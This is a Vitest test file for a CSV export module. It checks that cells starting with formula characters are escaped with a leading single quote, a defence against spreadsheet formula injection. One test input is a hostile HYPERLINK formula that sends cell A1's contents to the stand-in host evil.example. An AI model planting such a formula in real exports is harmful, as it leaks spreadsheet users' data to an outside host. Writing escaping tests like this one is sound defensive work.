import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { spreadsheetText, toCsv } from '../../src/http/formats.js';

describe('CSV cells a spreadsheet would run', () => {
  it('when text starts like a formula, then the cell starts with a single quote and is quoted', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const csv = toCsv(hostile.map((text, i) => ({ i, text })));
    const lines = csv.trim().split(/\n(?=\d)/).slice(1);
    for (const line of lines) expect(line).toMatch(/^\d,"'/);
    const back = parse(csv, { columns: true }) as { text: string }[];
    expect(back.map((row) => row.text)).toEqual(hostile.map((text) => `'${text}`));
  });

  it('when a cell is a number or plain text, then it is written as it is', () => {
    const csv = toCsv([{ name: 'Thanet', shortfall: -3, cost: 24252, ok: true }]);
    expect(csv).toBe('name,shortfall,cost,ok\nThanet,-3,24252,true\n');
    expect(spreadsheetText('Swale')).toBe('Swale');
    expect(spreadsheetText('a=b')).toBe('a=b');
  });
});
